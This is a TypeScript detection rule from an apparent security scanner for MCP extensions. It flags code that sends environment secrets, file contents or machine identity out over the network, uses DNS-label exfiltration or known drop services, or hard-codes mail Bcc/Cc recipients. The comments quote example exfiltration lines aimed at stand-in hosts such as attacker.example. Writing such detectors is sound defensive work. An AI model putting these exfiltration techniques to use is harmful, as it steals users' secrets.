import type { CallSite, StringSite } from '../src/analysis/model/code-facts.js';
import { exfiltrationService } from '../src/analysis/catalog/exfiltration.js';
import { connectionOpener, datagramDestination, destinationOf, isConnectionOpener, isMailSender, isSocketWrite, networkApi, opensBuiltRequest, requestBuilders } from '../src/analysis/catalog/network.js';
import { environmentName, SOURCES } from '../src/analysis/catalog/sources.js';
import { classifyHost, declaredHosts, type DeclaredHosts } from '../src/analysis/hosts.js';
import { atCallSite, isReached } from '../src/engine/call-site.js';
import { defineRule } from '../src/engine/rule.js';
import { apiName, quoteList, triggerPhrase } from '../src/engine/wording.js';
import type { Severity } from '../src/report.js';

// What leaves the machine, and to whom. The whole environment sent anywhere is critical: it holds
// every secret the extension was given and is what stealers collect. Anything at all sent to a drop
// box (webhook catcher, chat webhook, paste site, tunnel) is critical too, and so are environment
// variables or a fixed file's contents sent to a raw public IP address. File contents read from a
// fixed path and sent to a host the manifest does not declare are high (a key file posted home);
// when tool input shapes the request it is an upload feature the model can misuse (medium; low to a
// declared host). The machine's user and host names sent out identify the user (low). One variable
// sent as a credential to the service's own host is how APIs work and is not reported.
// Hard-coded recipients in outgoing mail are the postmark-mcp 1.0.16 case, where one added line put a
// Bcc on every message: Bcc critical (hidden copies), Cc high (copies), To low (a fixed addressee).
export default defineRule({
  meta: {
    id: 'code-exfiltration',
    category: 'exfiltration',
    severity: 'high',
    description:
      'Secrets, file contents or machine identity flow from server code to the network, anything goes to a known exfiltration service, or outgoing mail has hard-coded recipients (Bcc, Cc, To).',
    remediation:
      'Do not install an extension that sends its environment or files out or copies mail to a fixed address; a publisher should send only the data a tool was asked to send, to hosts the manifest declares.',
    messages: {
      wholeEnv: '{api} sends the whole environment ({env}, with every secret the server was started with) {destination}{reach}.',
      toService: '{api} sends {data} to {host}{reach}, a known drop for stolen data ({service}).',
      toRawIp: '{api} sends {data} to {host}{reach}, a raw public IP address with no name saying who runs it.',
      fixedFile: '{api} sends the contents of a file {destination}{reach}.',
      fileWithInput: '{api} sends file contents {destination} in tool {tools}, whose input shapes the request: the model can have files uploaded there.',
      hostInfo: "{api} sends the machine's user or host name {destination}{reach}.",
      inDnsName: '{api} puts {data} into a name it looks up ({destination}){reach}: the DNS query itself carries it out, past most firewalls.',
      bcc: 'Outgoing mail carries a hard-coded {field} recipient {address}{reach}: every message is secretly copied to that address.',
      cc: 'Outgoing mail carries a hard-coded {field} recipient {address}{reach}: every message is copied to that address.',
      to: 'Outgoing mail goes to a hard-coded recipient {address}{reach}.',
    },
    docs: {
      why:
        "What leaves the machine, and to whom, decides whether an extension is a thief. Critical: the whole environment sent " +
        "anywhere (it holds every secret the extension was given); anything at all sent to a known drop for stolen data " +
        "(webhook catchers such as webhook.site, Discord and Slack webhooks, the Telegram bot API, paste sites, file drops, " +
        "ngrok and other tunnels); environment variables or the contents of a file read from a fixed path sent to a raw " +
        "public IP address, whose owner no name vouches for (a key file or a token posted to a bare address is how stealers " +
        "report home); and a hard-coded Bcc on outgoing mail, the postmark-mcp 1.0.16 case, where one added line " +
        "copied every message the send tool sent to the attacker. High: file contents read from a fixed path sent to a host " +
        "the manifest does not declare (a key file posted home), an environment variable, file contents, the user or host name or " +
        "the working directory (what dependency-confusion probes report home) put as labels in " +
        "front of a domain in a name lookup (`dns.lookup(`${token}.t.attacker.example`)`, Python `socket.gethostbyname`, " +
        "`dns.resolver.resolve`: the query carries the data out past most firewalls), and a hard-coded Cc. Medium: file contents sent where tool " +
        "input shapes the request, an upload feature the model can be steered to misuse. Low: the machine's user or host name " +
        "sent to an undeclared host, and a hard-coded To recipient. File contents are followed where the read hands them on: " +
        "a Node-style callback (`fs.readFile(p, (err, data) => …)`), a promise (`readFile(p).then((text) => …)`), a stream's " +
        "`data` events, and a variable outside that the callback fills; a request's response handed to its callback is " +
        "network data the same way. The browser's cookies read by a library (`browser_cookie3`, `pycookiecheat`) count as " +
        "file contents. Sinks are HTTP clients, mail senders, name lookups, and Python's raw sockets: `sendto` to its " +
        "address, `send` and `sendall` to wherever the socket was connected; in Node, what is written to a request or a " +
        "socket a call opened (`const req = https.request(options); req.write(body); req.end(data)`, `net.connect`, " +
        "`tls.connect`), and what is sent on a WebSocket it created (`new WebSocket(url)`, the `ws` package), goes where that call points; " +
        "a UDP socket's `send(message, port, address)` goes to its address.",
      falsePositives:
        'One credential sent to its own service (`Authorization: Bearer ${process.env.TOKEN}` to the API the extension wraps) ' +
        'is how APIs work and is not reported (unless the host is a raw public IP address), nor is tool input sent where the tool says, nor anything sent to localhost (the ' +
        '`valid` example has all three). Hosts the manifest declares, or that you pass with `--allow-host`, lower file uploads ' +
        'by one step and are never treated as drops. Placeholder recipients (`@example.com`) are ignored. The environment and ' +
        'file contents are followed through variables within one function, not across function calls: data handed to a helper ' +
        'that sends it may go unseen, so the absence of a finding is not proof that nothing leaves. Dependency internals that ' +
        'nothing sets off (no tool, module load, listener or timer) are not reported.',
      references: [
        { title: 'CWE-201: Insertion of Sensitive Information Into Sent Data', url: 'https://cwe.mitre.org/data/definitions/201.html' },
        { title: 'CWE-200: Exposure of Sensitive Information to an Unauthorized Actor', url: 'https://cwe.mitre.org/data/definitions/200.html' },
        { title: 'CWE-526: Cleartext Storage of Sensitive Information in an Environment Variable', url: 'https://cwe.mitre.org/data/definitions/526.html' },
      ],
    },
  },
  check({ code, manifest, settings }, context) {
    const declared = declaredHosts(manifest.json, settings.allowedHosts);
    const builders = requestBuilders(code.calls);
    const openers = connectionOpeners(code.calls);
    for (const call of code.calls) {
      if (call.origin !== 'first-party' && !isReached(call)) continue;
      const api = networkApi(call.callee);
      // `urlopen(Request(url, data))`: the request object carries the data and is judged where it is built.
      if (api !== null && opensBuiltRequest(call, api, builders)) continue;
      const sink = sinkOf(call, openers);
      if (sink === null) continue;
      const finding = judgeFlow(call, sink, declared);
      if (finding === null) continue;
      context.report({
        messageId: finding.messageId,
        data: { api: apiName(call.callee, call.excerpt), destination: sink.text, reach: triggerPhrase(call.triggers), tools: quoteList(call.taintedBy), env: environmentName(call.file), ...finding.data },
        severity: finding.severity,
        ...atCallSite(call),
        ...(finding.messageId === 'fileWithInput' ? { roles: [{ kind: 'sink', tools: call.taintedBy, power: 'send-out' }] } : {}),
      });
    }
    for (const site of code.strings) {
      const recipient = recipientOf(site);
      if (recipient === null) continue;
      context.report({
        messageId: recipient,
        // The constant is written wherever; the mail goes out from the tools that reach it.
        data: { field: site.key!, address: site.value, reach: triggerPhrase(site.triggers.filter((trigger) => trigger.kind === 'tool')) },
        severity: recipient === 'bcc' ? 'critical' : recipient === 'cc' ? 'high' : 'low',
        location: { file: site.file, line: site.line, column: site.column },
        evidence: `${site.key}: ${site.value}`,
        origin: site.origin,
        tools: site.tools,
      });
    }
  },
});

interface Sink {
  /** `to api.example.com`, `to a destination computed at run time`, `by mail`, `through a socket connected elsewhere in the code`. */
  text: string;
  /** A name lookup: what is sent travels in the name. */
  dns: boolean;
  host: string | null;
  path: string;
}

/** Node's calls that open a request or a socket (`https.request(opts)`, `net.connect(port, host)`), by file, in source order. */
function connectionOpeners(calls: readonly CallSite[]): Map<string, CallSite[]> {
  const byFile = new Map<string, CallSite[]>();
  for (const call of calls) {
    if (!isConnectionOpener(call.callee)) continue;
    const list = byFile.get(call.file);
    if (list === undefined) byFile.set(call.file, [call]);
    else list.push(call);
  }
  for (const list of byFile.values()) list.sort((a, b) => a.line - b.line || a.column - b.column);
  return byFile;
}

function sinkOf(call: CallSite, openers: ReadonlyMap<string, readonly CallSite[]>): Sink | null {
  if (isMailSender(call.callee)) return { text: 'by mail', dns: false, host: null, path: '/' };
  const opener = connectionOpener(call.callee);
  if (opener !== null) {
    // `req.write(data)` after `const req = https.request(opts)`: the data goes where the nearest such call above it points.
    let opened: CallSite | undefined;
    for (const candidate of openers.get(call.file) ?? []) {
      if (candidate.line > call.line || (candidate.line === call.line && candidate.column > call.column)) break;
      if (candidate.callee === opener) opened = candidate;
    }
    const api = opened === undefined ? null : networkApi(opened.callee);
    const datagram = opener === 'dgram.createSocket';
    const destination = datagram ? datagramDestination(call.args) : opened === undefined || api === null ? null : destinationOf(opened.args, api);
    const what = opener.endsWith('.request') ? 'a request' : opener.startsWith('new ws') || opener === 'new WebSocket' ? 'a WebSocket' : datagram ? 'a UDP socket' : 'a socket';
    return destination === null
      ? { text: `through ${what} opened elsewhere in the code`, dns: false, host: null, path: '/' }
      : { text: `through ${what} opened to ${destination.host}`, dns: false, host: destination.host, path: destination.path };
  }
  if (isSocketWrite(call.callee)) return { text: 'through a socket connected elsewhere in the code', dns: false, host: null, path: '/' };
  const api = networkApi(call.callee);
  if (api === null || api.kind === 'listen') return null;
  const destination = destinationOf(call.args, api);
  const dns = api.kind === 'dns';
  return destination === null
    ? { text: 'to a destination computed at run time', dns, host: null, path: '/' }
    : { text: `to ${destination.host}`, dns, host: destination.host, path: destination.path };
}

/** `.t.attacker.example`: what follows data smuggled as the first labels of a name. */
const DOMAIN_SUFFIX = /^\.[a-z0-9-]+(?:\.[a-z0-9-]+)+\.?$/i;

type FlowMessage = 'wholeEnv' | 'toService' | 'toRawIp' | 'fixedFile' | 'fileWithInput' | 'hostInfo' | 'inDnsName';

function judgeFlow(call: CallSite, sink: Sink, declared: DeclaredHosts): { messageId: FlowMessage; severity: Severity; data?: Record<string, string> } | null {
  const carrying = (label: string) => call.args.flatMap((argument, position) => (argument.labels.includes(label) ? [position] : []));
  const wholeEnv = carrying(SOURCES.envAll);
  const file = carrying(SOURCES.file);
  const hostInfo = carrying(SOURCES.hostInfo);
  const local = sink.host !== null && ['loopback', 'unspecified'].includes(classifyHost(sink.host));
  if (local) return null;
  // `gethostbyname(f"{secret}.attacker.example")`: no service takes a secret as a label in front of a
  // domain it resolves. A name that is a variable (`lookup(process.env.DB_HOST ?? 'localhost')`) is configuration.
  if (sink.dns) {
    const built = (positions: number[]) => positions.some((position) => (call.args[position]?.parts ?? []).some((part) => DOMAIN_SUFFIX.test(part)));
    // What a dependency-confusion probe reports home: who and where it runs (`f"{os.getcwd()}.collector.example"`).
    const secrets = [
      ...(wholeEnv.length === 0 && built(carrying(SOURCES.env)) ? ['an environment variable'] : []),
      ...(built(file) ? ['file contents'] : []),
      ...(built(hostInfo) ? ["the machine's user or host name"] : []),
      ...(built(carrying(SOURCES.cwd)) ? ['the working directory'] : []),
    ];
    if (secrets.length > 0) return { messageId: 'inDnsName', severity: 'high', data: { data: joinAnd(secrets) } };
  }
  const isDeclared = sink.host !== null && declared.covers(sink.host);
  const service = sink.host === null || isDeclared ? undefined : exfiltrationService(sink.host, sink.path);
  if (service) {
    const data = [
      ...(wholeEnv.length > 0 ? ['the whole environment'] : carrying(SOURCES.env).length > 0 ? ['environment variables'] : []),
      ...(file.length > 0 ? ['file contents'] : []),
      ...(hostInfo.length > 0 ? ["the machine's user or host name"] : []),
      ...(call.taintedBy.length > 0 ? [`the input of tool ${quoteList(call.taintedBy)}`] : []),
    ];
    if (data.length > 0) return { messageId: 'toService', severity: 'critical', data: { data: joinAnd(data), host: sink.host!, service: service.service } };
  }
  // Secrets or a file read from a fixed path, sent to an address nobody's name stands behind: what
  // stealers do. (The whole environment is critical wherever it goes: its own message says so.)
  if (wholeEnv.length === 0 && sink.host !== null && !isDeclared && classifyHost(sink.host) === 'public-ip') {
    const secrets = [
      ...(carrying(SOURCES.env).length > 0 ? ['environment variables'] : []),
      ...(file.some((position) => !call.taintedArgs.includes(position)) ? ['file contents'] : []),
    ];
    if (secrets.length > 0) return { messageId: 'toRawIp', severity: 'critical', data: { data: joinAnd(secrets), host: sink.host } };
  }
  if (wholeEnv.length > 0) return { messageId: 'wholeEnv', severity: 'critical' };
  if (file.length > 0) {
    const fixed = file.some((position) => !call.taintedArgs.includes(position));
    if (fixed) return { messageId: 'fixedFile', severity: isDeclared ? 'medium' : 'high' };
    return { messageId: 'fileWithInput', severity: isDeclared ? 'low' : 'medium' };
  }
  if (hostInfo.length > 0 && !isDeclared) return { messageId: 'hostInfo', severity: 'low' };
  return null;
}

function joinAnd(items: readonly string[]): string {
  return items.length <= 1 ? (items[0] ?? '') : `${items.slice(0, -1).join(', ')} and ${items.at(-1)}`;
}

const BCC = /^(?:bcc|blindcarboncopy|bcc(?:address|recipient|email)(?:es|s)?)$/;
const CC = /^(?:cc|carboncopy|cc(?:address|recipient|email)(?:es|s)?)$/;
const TO = /^(?:to|sendto|mailto|recipients?|to(?:address|recipient|email)(?:es|s)?|recipient(?:address|email)(?:es|s)?)$/;

/** A mail address constant bound to a recipient field, in code the server's authors wrote or a tool reaches. */
function recipientOf(site: StringSite): 'bcc' | 'cc' | 'to' | null {
  if (site.kind !== 'email' || site.key === undefined) return null;
  if (site.origin !== 'first-party' && site.tools.length === 0) return null;
  const domain = site.value.slice(site.value.lastIndexOf('@') + 1);
  if (['placeholder', 'loopback'].includes(classifyHost(domain))) return null;
  const field = site.key.toLowerCase().replace(/[^a-z]/g, '');
  return BCC.test(field) ? 'bcc' : CC.test(field) ? 'cc' : TO.test(field) ? 'to' : null;
}
